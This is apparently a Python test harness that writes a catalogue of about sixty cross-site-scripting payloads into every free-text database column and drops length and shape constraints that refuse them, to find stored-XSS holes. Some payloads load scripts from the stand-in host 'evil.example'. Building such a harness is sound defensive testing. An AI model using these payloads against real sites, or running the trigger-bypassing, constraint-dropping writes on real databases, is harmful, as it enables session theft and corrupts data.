"""Sixty scripts that somebody may write into a field, and every field there is: planted at once, past the forms.

What a form or a file would refuse is planted too: what is stored may be older than the form. Which columns hold codes
that only we write is said here; every other text is a field, so that a new one is planted without anybody's doing.
"""

import json
from collections.abc import Iterator, Sequence
from typing import Any

import psycopg
from psycopg.sql import SQL, Composed, Identifier

_RUN = "__ran()"
PAYLOADS = tuple(line.replace("RUN", _RUN) for line in r"""
<script data-qz>RUN</script>
<ScRiPt data-qz>RUN</sCrIpT>
<script data-qz src=//evil.example/x.js></script>
<script data-qz type=module>RUN</script>
</script><script data-qz>RUN</script>
</title><script data-qz>RUN</script>
</textarea><script data-qz>RUN</script>
</style><script data-qz>RUN</script>
--><script data-qz>RUN</script>
]]><script data-qz>RUN</script>
"><script data-qz>RUN</script>
'><script data-qz>RUN</script>
<img data-qz src=x onerror=RUN>
"><img data-qz src=x onerror=RUN>
'><img data-qz src=x onerror=RUN>
`><img data-qz src=x onerror=RUN>
<img/data-qz/src=x/onerror=RUN>
<img data-qz src=x onerror="RUN"//
<svg data-qz onload=RUN>
<svg data-qz/onload=RUN>
<svg data-qz><script>RUN</script></svg>
<svg data-qz><animate onbegin=RUN attributeName=x dur=1s>
<svg data-qz><set onbegin=RUN attributeName=x>
<svg data-qz><a xlink:href="javascript:RUN"><text>x</text></a></svg>
<svg data-qz><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg data-qz><use href="data:image/svg+xml,<svg id=x onload=RUN>#x">
<math data-qz><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<body data-qz onload=RUN>
<iframe data-qz srcdoc="<script>parent.RUN</script>"></iframe>
<iframe data-qz src="javascript:parent.RUN"></iframe>
<object data-qz data="javascript:RUN"></object>
<embed data-qz src="javascript:RUN">
<video data-qz><source onerror=RUN></video>
<audio data-qz src=x onerror=RUN>
<details data-qz open ontoggle=RUN>x</details>
<input data-qz autofocus onfocus=RUN>
<select data-qz autofocus onfocus=RUN></select>
<marquee data-qz onstart=RUN>x</marquee>
<a data-qz href="javascript:RUN">x</a>
<form data-qz action="javascript:RUN"><button>x</button></form>
<button data-qz formaction="javascript:RUN" form=x>x</button>
<base data-qz href="//evil.example/">
<meta data-qz http-equiv=refresh content="0;url=javascript:RUN">
<link data-qz rel=stylesheet href="//evil.example/x.css">
<style data-qz>@import "//evil.example/x.css";</style>
<template data-qz><img src=x onerror=RUN></template>
<noscript><p title="</noscript><img data-qz src=x onerror=RUN>">
<x-y data-qz style="animation-name:x" onanimationstart=RUN>x</x-y>
" autofocus data-qz onfocus=RUN x="
' autofocus data-qz onfocus=RUN x='
" onmouseover=RUN data-qz style="position:fixed;inset:0
javascript:RUN
jav&#x09;ascript:RUN
&lt;img data-qz src=x onerror=RUN&gt;
&#60;img data-qz src=x onerror=RUN&#62;
\x3cimg data-qz src=x onerror=RUN\x3e
\u003cimg data-qz src=x onerror=RUN\u003e
";RUN;//
';RUN;//
${RUN}{{RUN}}{% raw %}<%=RUN%>
""".strip().split("\n"))
SHORT = '"><b data-qz>'
"""Where a longer one does not fit."""
_SWALLOW = ("<select", "<noscript", "<template", "<style", "<math", '<img data-qz src=x onerror="')
"""What may take what follows it for its own stands last in a text."""
_OUT = "\"'>]]>--></title></textarea></style></script>"
"""Out of whatever a page writes a text into, so that each of the thirty stands in the open there."""


def _swallows(payload: str) -> int:
    return next((place for place, begin in enumerate(_SWALLOW) if payload.startswith(begin)), -1)


def _texts() -> Iterator[str]:
    """All of the sixty in two texts, thirty in each; what is a script only as a whole address begins one."""
    first = [one for one in PAYLOADS if one.startswith("jav")]
    others = [one for one in PAYLOADS if one not in first]
    for number, address in enumerate(first):
        some = sorted(others[number::len(first)], key=_swallows)
        yield " ".join([f"{address}//", _OUT, *some])


TEXTS = tuple(_texts())

CODES = {
    "project": "category fund fund_shares stage source source_key record",
    "project_fact": "category fund stage source source_key",
    "site": "role method", "pair": "kind model facts_hash levels weights reason", "person_grant": "role",
    "verdict": "verdict facts_hash machine_kind blind", "region": "level code", "upload": "format state outcome",
    "upload_row": "outcome source_key method", "person": "language password_hash totp_secret",
    "job": "task state refusal", "export": "source format language", "check_result": "answer",
    "check_list": "state", "finding": "state", "finding_event": "kind", "sample": "method strata_of filter strata",
    "anomaly": "kind reason", "anomaly_run": "means", "model": "content", "upload_correction": "kind",
    "model_draft": "content origin result learned", "column_mapping": "shape", "pair_standing": "verdict state kind",
    "installation": "*", "audit": "table_name change",
}
"""By table, what only we write: codes, sums and structures whose words come from our own lists."""
CLOSED = {"region.kind"}
"""Fields that keep to words of ours, in the database itself."""
OURS = ("audit_", "procrastinate", "_yoyo", "yoyo", "spatial_ref_sys", "sign_in", "map_", "region_count", "work_past")
"""Tables by which nothing is said to a person, or that are worked out from the others."""


def fields(db: psycopg.Connection) -> Iterator[tuple[str, str, str]]:
    """(table, column, type) of each field in which somebody's words may stand."""
    for table, column, kind in db.execute(
            """
            SELECT c.table_name, c.column_name, c.data_type
              FROM information_schema.columns c JOIN information_schema.tables t USING (table_schema, table_name)
             WHERE t.table_schema = 'public' AND t.table_type = 'BASE TABLE' AND c.is_generated = 'NEVER'
               AND c.data_type IN ('text', 'character varying', 'jsonb') ORDER BY 1, 2
            """).fetchall():
        known = CODES.get(table, "").split()
        if not table.startswith(OURS) and column not in known and "*" not in known:
            yield table, column, kind


def complete(db: psycopg.Connection, mark: str = "Qxword Qz") -> None:
    """What the world of the matrix has none of: problems, refusals, corrections, a changed model."""
    told = {"id": "region.unknown", "values": {"text": mark}}
    problem = [{"row": 2, "column": "nama", "text": mark, "sheet": mark, "severity": severity, "reason": told,
                "suggestion": {"how": "swap", "lon": 114.3692, "lat": -8.2192, "reason": told}}
               for severity in ("fault", "note")]
    corrected = {"cells": {"nama": mark}, "how": mark}
    with db.transaction():
        db.execute("SET LOCAL session_replication_role = replica")
        for table, column, value in (
                ("upload", "problems", problem), ("upload_row", "problems", problem), ("upload_row", "told", problem),
                ("check_list", "problems", problem), ("upload_row", "corrected", corrected),
                ("upload_row", "before", {"name": mark, "contractor": mark}),
                ("project", "said", {"name": mark, "place": mark, "sites": []})):
            db.execute(SQL("UPDATE {} SET {} = %s").format(*map(Identifier, (table, column))), [json.dumps(value)])
        for table in ("upload", "check_list"):
            db.execute(SQL("UPDATE {} SET refusal = %s WHERE file_name LIKE 'Qxmine%%'").format(Identifier(table)),
                       [json.dumps(told)])
        db.execute("UPDATE model SET kept_by = (SELECT person_id FROM model_draft LIMIT 1), reason = %s", [mark])


def plant(db: psycopg.Connection, turn: int = 0, texts: Sequence[str] = PAYLOADS) -> tuple[set[str], set[str]]:
    """Write payloads into every field of every row, another one each; `turn` moves them on, so that after as many turns
    as there are texts each field of each row has held them all. Answers the fields that hold one, and those in which
    the database lets none stand. What limits a length or a shape is taken away: it may be younger than what is kept."""
    planted, closed, number = set(), set(), turn
    with db.transaction():
        db.execute("SET LOCAL session_replication_role = replica")
        for field in fields(db):
            table, column, kind = field
            # what is still empty is filled too, where it is a text: another installation may have filled it
            rows = db.execute(SQL("SELECT ctid, {} FROM {} WHERE {} IS NOT NULL OR %s ORDER BY {}").format(
                *map(Identifier, (column, table, column)), _key(db, table)), [kind != "jsonb"]).fetchall()
            for row, (place, value) in enumerate(rows):
                if _planted(db, field, place, value, texts[(number + row) % len(texts)], row):
                    planted.add(f"{table}.{column}")
            if rows and f"{table}.{column}" not in planted:
                closed.add(f"{table}.{column}")
            number += 1
    return planted, closed


def _key(db: psycopg.Connection, table: str) -> Composed:
    """What the rows are counted by, the same in each turn."""
    named = db.execute("SELECT a.attname FROM pg_index i JOIN pg_attribute a ON a.attrelid = i.indrelid"
                       " AND a.attnum = ANY (i.indkey) WHERE i.indrelid = %s::regclass AND i.indisprimary ORDER BY 1",
                       [table]).fetchall()
    return SQL(", ").join(Identifier(name) for name, in named or [("ctid",)])


def _planted(db: psycopg.Connection, field: tuple[str, str, str], place: str, value: Any, payload: str, row: int
             ) -> bool:
    """Whether the row holds it now, with a number where no two may be alike, or a shorter one."""
    for tried in (payload, payload, f"{payload} {row}", SHORT):
        new = tried if field[2] != "jsonb" else json.dumps(_within(value, tried))
        try:
            with db.transaction():
                db.execute(SQL("UPDATE {} SET {} = %s WHERE ctid = %s").format(
                    *map(Identifier, field[:2])), [new, place])
        except psycopg.errors.CheckViolation as refused:
            _unlimited(db, refused)
            continue
        except (psycopg.errors.IntegrityError, psycopg.errors.StringDataRightTruncation):
            continue
        return field[2] != "jsonb" or tried in new or json.dumps(tried)[1:-1] in new
    return False


def _unlimited(db: psycopg.Connection, refused: psycopg.errors.CheckViolation) -> None:
    """Take away what refused, where it limits a length or a shape; what lists our own words stays."""
    said = refused.diag
    (how,) = db.execute("SELECT pg_get_constraintdef(oid) FROM pg_constraint WHERE conname = %s AND conrelid = %s"
                        "::regclass", [said.constraint_name, said.table_name]).fetchone()
    if "length(" in how or " ~ " in how:
        db.execute(SQL("ALTER TABLE {} DROP CONSTRAINT {}").format(
            *map(Identifier, (said.table_name, said.constraint_name))))


def _within(value: Any, payload: str) -> Any:
    """The same structure with the payload where somebody's words stand: those with a space or the mark of a thing, and
    the headings of their files."""
    match value:
        case str() if " " in value or "Qx" in value or "Rabat" in value or "__ran" in value or value == "nama":
            return payload
        case list():
            return [_within(one, payload) for one in value]
        case dict():
            return {payload if name == "nama" or "data-qz" in name or "__ran" in name else name: _within(one, payload)
                    for name, one in value.items()}
    return value
